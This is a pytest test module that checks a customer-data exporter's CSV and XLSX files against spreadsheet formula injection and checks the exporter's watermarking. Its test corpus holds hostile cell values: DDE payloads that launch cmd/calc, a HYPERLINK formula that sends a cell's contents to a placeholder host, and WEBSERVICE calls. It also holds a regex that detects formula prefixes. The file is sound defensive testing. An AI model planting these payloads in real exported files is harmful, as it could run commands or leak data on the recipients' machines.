"""Files that are taken out: nothing in them is carried out by a sheet, and each names who took it. A12, A9"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from io import BytesIO, StringIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from guanhu.apps.customers.exports import files
from guanhu.apps.customers.exports.files import Sheet, inert, written
from guanhu.rules.exports import FileKind
from tests.factories import NOW

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\x0b", "\u2028")
COMMANDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"点我")', "SUM(1+9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.invalid/")', "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "2+5+cmd|'x'!A",
)  # fmt: skip
SPLIT = ("张;=1+1", "张,=1+1", "张|@SUM(A1)", '张;"=1+1"', "张\n=1+1", "张\r\n-2+3", '"=1+1', "'=1+1", '张", "=1+1')
CORPUS = tuple(before + sign + command for before in BEFORE for sign in SIGNS for command in COMMANDS) + SPLIT
LIVE = re.compile(r"^[\s\u200b\ufeff\u202e]*[=+\-@＝＋－＠﹦﹢﹣﹫−]")
MARK = "申请号 D20261124-0001 · 沈知微（S01）2026-11-24 10:10 导出"


def sheet(*cells: Any, mark: str = MARK) -> Sheet:
    """A list of one column, a line for each of these."""
    return Sheet("D20261124-0001", mark, "沈知微 S01", NOW, ("姓名",), [(cell,) for cell in cells])


def read_csv(content: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def read_xlsx(content: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(0).to_python()


def alive(content: bytes, kind: FileKind) -> Iterator[str]:
    """Cells that a sheet would carry out, whatever it splits a line at."""
    if kind is FileKind.XLSX:
        yield from (str(cell) for row in read_xlsx(content) for cell in row if LIVE.match(str(cell)))
        yield from re.findall(
            r"<f\b.*?</f>", zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
        )
        return
    for separator in (",", ";", "|", "\t"):
        yield from (cell for row in read_csv(content, separator) for cell in row if LIVE.match(cell.strip('"')))


@pytest.mark.parametrize("kind", FileKind)
def test_no_cell_of_the_corpus_is_carried_out(kind: FileKind):
    assert len(CORPUS) > 1_000
    assert list(alive(written(sheet(*CORPUS), kind), kind)) == []


@pytest.mark.parametrize("kind", FileKind)
def test_a_file_written_as_it_comes_is_full_of_live_cells(kind: FileKind, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(files, "inert", lambda text: text)
    assert len(set(alive(written(sheet(*CORPUS), kind), kind))) > 500


@pytest.mark.parametrize("kind", FileKind)
def test_every_row_comes_back_once_between_its_heading_and_the_marks(kind: FileKind):
    content = written(sheet("赵*芳", "李*华", "C000101", "007", "2026-11-12", "138 **** 2716"), kind)
    rows = read_csv(content) if kind is FileKind.CSV else read_xlsx(content)
    assert [str(row[0]) for row in rows] == [
        MARK, "姓名", "赵*芳", "李*华", "C000101", "007", "2026-11-12", "138 **** 2716", MARK,
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("fen", "told"), [(0, "0.00"), (5, "0.05"), (-2_600_001, "-26000.01"), (10**13, "100000000000.00")]
)
def test_amounts_are_numbers_to_the_fen(fen: int, told: str):
    assert read_csv(written(sheet(fen), FileKind.CSV))[2] == [told]
    assert read_xlsx(written(sheet(fen), FileKind.XLSX))[2][0] == pytest.approx(float(told), abs=0.001)


@pytest.mark.parametrize("kind", FileKind)
def test_the_mark_of_who_took_it_stands_in_the_file_wherever_it_is_read(kind: FileKind):
    content = written(sheet("赵*芳"), kind)
    if kind is FileKind.CSV:
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.decode("utf-8-sig").count(MARK) == 2
        return
    inside = zipfile.ZipFile(BytesIO(content))
    said = inside.read("docProps/core.xml").decode()
    assert all(word in said for word in ("D20261124-0001", "沈知微 S01", MARK))
    assert "2026-11-24T02:10:00Z" in said
    page = inside.read("xl/worksheets/sheet1.xml").decode()
    assert page.count(f"&amp;L{MARK}") == 2
    assert inside.read("xl/sharedStrings.xml").decode().count(MARK) == 1


def test_a_mark_that_begins_like_a_formula_or_holds_an_ampersand_stays_a_text():
    content = written(sheet("赵*芳", mark="=1+1 & A&P"), FileKind.XLSX)
    assert read_xlsx(content)[0][0] == "'=1+1 & A&P"
    assert (
        "&amp;L'=1+1 &amp;&amp; A&amp;&amp;P"
        in zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    )


@pytest.mark.slow
@settings(max_examples=60)
@given(st.text(max_size=60))
def test_whatever_is_typed_is_one_line_that_begins_no_formula_and_twice_is_once(text: str):
    once = inert(text)
    assert not LIVE.match(once)
    assert not re.search(r"[\r\n\t\x00-\x1f]", once)
    assert inert(once) == once


@pytest.mark.parametrize(
    "text", ["赵桂芳", "欧阳**", "A 类", "2026-11-24", "138 **** 2716", "a-b", "60–69 岁", "J* N*"]
)
def test_an_ordinary_text_stays_as_it_is(text: str):
    assert inert(text) == text
